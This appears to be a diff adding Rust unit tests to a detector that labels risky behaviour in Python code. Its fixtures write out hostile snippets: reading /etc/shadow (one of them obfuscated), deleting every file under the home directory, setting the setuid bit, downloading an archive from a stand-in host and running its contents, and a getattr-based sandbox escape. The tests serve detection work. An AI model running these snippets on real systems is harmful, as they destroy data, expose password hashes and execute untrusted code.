@@ -192,3 +192,35 @@ fn a_secret_that_is_named_to_somebody_unknown_is_told_as_read() {
         assert!(!lines.iter().any(|line| line.starts_with("reads")), "{lines:#?} in\n{source}");
     }
 }
+
+#[test]
+fn each_call_of_a_function_of_the_program_is_told_with_its_own_words() {
+    let wrapper = "import subprocess\ndef run(*words):\n    return subprocess.run(words, check=True)\n";
+    check(
+        &format!("{wrapper}run('git', 'describe')\nrun('cat', '/etc/shadow')"),
+        &["command git describe", "command cat /etc/shadow"],
+    );
+    let seen = facts(Language::Python, &format!("{wrapper}run('rm', '-rf', 'build')\nrun('ls', '/')"));
+    assert!(!seen.iter().any(|line| line.starts_with("command rm") && line.ends_with(" /")), "{seen:#?}");
+}
+
+#[test]
+fn modes_archives_and_sums_of_texts_are_followed() {
+    check("import os, stat\nos.chmod('t', os.stat('t').st_mode | stat.S_ISUID)", &["privilege SetUserId"]);
+    ordinary(Language::Python, "import os, stat\nos.chmod('t', os.stat('t').st_mode | stat.S_IXUSR)");
+    check(
+        "import functools, operator\nopen(functools.reduce(operator.add, ['/etc/', 'shadow']))",
+        &["reads /etc/shadow"],
+    );
+    check("from pathlib import Path\nfor p in sorted(Path.home().rglob('*')):\n    p.unlink()", &["removes One ~/*"]);
+    check(
+        "import urllib.request as u, zipfile, subprocess\nu.urlretrieve('https://x.example/t', 't.zip')\nzipfile.ZipFile('t.zip').extractall('/tmp/t')\nsubprocess.run(['/tmp/t/go'])",
+        &["executes Network"],
+    );
+    ordinary(
+        Language::Python,
+        "import zipfile, subprocess\nzipfile.ZipFile('t.zip').extractall('/tmp/t')\nsubprocess.run(['/tmp/t/go'])",
+    );
+    ordinary(Language::Python, "class A: pass\nprint([c.__name__ for c in A.__mro__], A().__class__.__mro__)");
+    check("print(getattr(().__class__.__base__, input()))", &["trick InnerParts"]);
+}
